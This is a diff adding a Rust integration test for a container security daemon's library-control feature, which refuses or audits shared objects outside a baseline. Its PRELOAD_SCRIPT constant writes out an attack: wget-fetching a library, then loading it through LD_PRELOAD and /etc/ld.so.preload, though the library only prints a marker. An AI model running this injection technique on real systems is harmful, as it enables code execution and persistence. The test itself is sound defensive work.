@@ -200,3 +200,106 @@ fn doctor_json_on_this_machine() {
     assert_eq!(text.status.code(), out.status.code());
     assert!(String::from_utf8_lossy(&text.stdout).contains("verdict:"));
 }
+
+/// Builds the dropped library (its constructor prints EVIL-RAN) into `dir`.
+fn evil_library(dir: &std::path::Path) -> Vec<u8> {
+    let so = dir.join("evil.so");
+    let src = concat!(env!("CARGO_MANIFEST_DIR"), "/testdata/guest/evil.c");
+    let out = Command::new("cc")
+        .args(["-O1", "-shared", "-fPIC", "-o"])
+        .arg(&so)
+        .arg(src)
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    fs::read(&so).unwrap()
+}
+
+/// The attack that only the mapping gate stopped: a library dropped in /tmp, in the rootfs
+/// and on a volume, loaded by an image program through LD_PRELOAD and /etc/ld.so.preload.
+const PRELOAD_SCRIPT: &str = "wget -q -O /tmp/evil.so $LIB; mkdir -p /usr/local/lib; wget -q -O /usr/local/lib/evil.so $LIB; \
+     for l in /tmp/evil.so /usr/local/lib/evil.so /data/evil.so; do LD_PRELOAD=$l hello-dyn; echo \"preload $l=$?\"; done; \
+     echo /tmp/evil.so > /etc/ld.so.preload; hello-dyn; echo preload-file=$?; rm /etc/ld.so.preload; \
+     hello-dyn; echo hello=$?; ls /usr/bin >/dev/null; echo ls=$?";
+
+/// Issue 25 (5): with `--library-control`, opens of shared objects not in the baseline are
+/// refused (enforce) or recorded (audit) on every filesystem of the container; image
+/// programs and their libraries run. On this machine the mapping gate does not load, so
+/// without it the same attacks run (checked first).
+#[test]
+fn library_control_refuses_dropped_libraries_where_the_gate_cannot_load() {
+    let Some(mut node) = Node::new("libctl") else {
+        return;
+    };
+    let vol = node.dir.join("vol");
+    let lib = Http::start(evil_library(&vol));
+    let mount = format!("type=bind,src={},dst=/data,options=rbind:rw", vol.display());
+    let script = PRELOAD_SCRIPT.replace("$LIB", &Node::url_of(&lib));
+    // Without library control (and no gate here), each dropped library runs.
+    let out = node.run(GLIBC, "lib-off", &["--mount", &mount], &script);
+    let t = text(&out);
+    assert_eq!(t.matches("EVIL-RAN").count(), 4, "{t}");
+
+    node.kill_daemon();
+    node.set_daemon_args(&["--annotations=any", "--library-control"]);
+    node.start_daemon();
+    let out = node.run(GLIBC, "lib-on", &["--mount", &mount], &script);
+    let t = text(&out);
+    assert!(out.status.success(), "{t}");
+    assert!(!t.contains("EVIL-RAN"), "no dropped library may load: {t}");
+    assert_eq!(
+        t.matches("hello from a dynamically linked program").count(),
+        5,
+        "the image program runs each time, without the library: {t}"
+    );
+    assert!(t.contains("hello=0") && t.contains("ls=0"), "{t}");
+    let recs = node.records(4);
+    let refused: Vec<_> = recs
+        .iter()
+        .filter(|r| r["unit"] == "lib-on" && r["reason"] == "library-not-in-baseline")
+        .collect();
+    assert!(refused.len() >= 4, "{recs:?}");
+    assert!(
+        refused
+            .iter()
+            .all(|r| r["verdict"] == "deny" && r["rule"] == "library")
+    );
+    for place in ["/tmp/evil.so", "/usr/local/lib/evil.so", "/data/evil.so"] {
+        assert!(
+            refused.iter().any(|r| r["path"] == place),
+            "{place} is refused: {refused:?}"
+        );
+    }
+
+    // Audit mode: nothing refused, each would-deny recorded.
+    let out = node.run(
+        GLIBC,
+        "lib-audit",
+        &["--mount", &mount, "--annotation", "driftlock.io/mode=audit"],
+        &script,
+    );
+    let t = text(&out);
+    assert_eq!(
+        t.matches("EVIL-RAN").count(),
+        4,
+        "audit mode never blocks: {t}"
+    );
+    let recs = node.records(8);
+    assert!(
+        recs.iter().any(|r| r["unit"] == "lib-audit"
+            && r["reason"] == "library-not-in-baseline"
+            && r["verdict"] == "would-deny"),
+        "{recs:?}"
+    );
+    let status = node.status();
+    assert!(
+        status["stats"]["denied_by_reason"]["library-not-in-baseline"]
+            .as_u64()
+            .is_some_and(|n| n >= 4),
+        "{status}"
+    );
+}
